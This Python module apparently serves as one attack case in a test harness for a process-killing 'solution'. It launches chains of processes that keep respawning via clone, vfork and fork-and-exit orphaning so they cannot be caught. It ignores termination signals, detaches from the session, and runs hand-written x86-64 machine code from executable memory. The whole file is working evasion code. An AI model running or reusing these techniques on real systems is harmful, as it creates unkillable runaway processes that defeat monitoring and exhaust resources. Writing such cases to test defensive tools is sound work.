"""Starts processes that start another one and end at once, so that a search for them always comes too late."""

import ctypes
import mmap
import os
import platform
import signal

import attack
import solution

CLONE_VM, CLONE_VFORK, CLONE_PARENT = 0x100, 0x4000, 0x8000
NUMBER = 56 if platform.machine() == "x86_64" else 220  # clone(2)
CHAINS = 20


def siblings(flags):
    """Go on in a new child of this process's parent, and end this one."""
    while True:
        if attack.LIBC.syscall(NUMBER, flags | signal.SIGCHLD, 0, 0, 0, 0) > 0:
            os._exit(0)


def orphans():
    """Go on in a child, and end this process."""
    while True:
        try:
            if os.fork():
                os._exit(0)
        except OSError:
            pass


def machine_code(flags):
    """Do the same as `siblings` without copying any memory: a start takes some microseconds."""
    code = b"\xb8\x38\x00\x00\x00\xbf" + (flags | signal.SIGCHLD).to_bytes(4, "little")
    code += (
        b"\x31\xf6\x31\xd2\x45\x31\xd2\x45\x31\xc0\x0f\x05\x85\xc0\x74\xe6\x78\xe4\x31\xff\xb8\x3c\x00\x00\x00\x0f\x05"
    )
    memory = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    memory.write(code)
    ctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))()


WAYS = {
    "siblings": lambda: siblings(CLONE_PARENT),
    "vfork": lambda: siblings(CLONE_PARENT | CLONE_VFORK),
    "orphans": orphans,
    "machine code": lambda: machine_code(CLONE_PARENT | CLONE_VM),
}


def run():
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
        signal.signal(number, signal.SIG_IGN)
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)  # the kernel keeps no zombies
    os.setsid()
    os.closerange(0, 1024)
    for _ in range(CHAINS):
        if os.fork() == 0:
            WAYS[attack.CONFIG["trick"]]()
    while True:
        signal.pause()


def start():
    if os.fork() == 0:
        run()
    attack.say("RUNS")


attack.at_first_post(start)
solution.main()
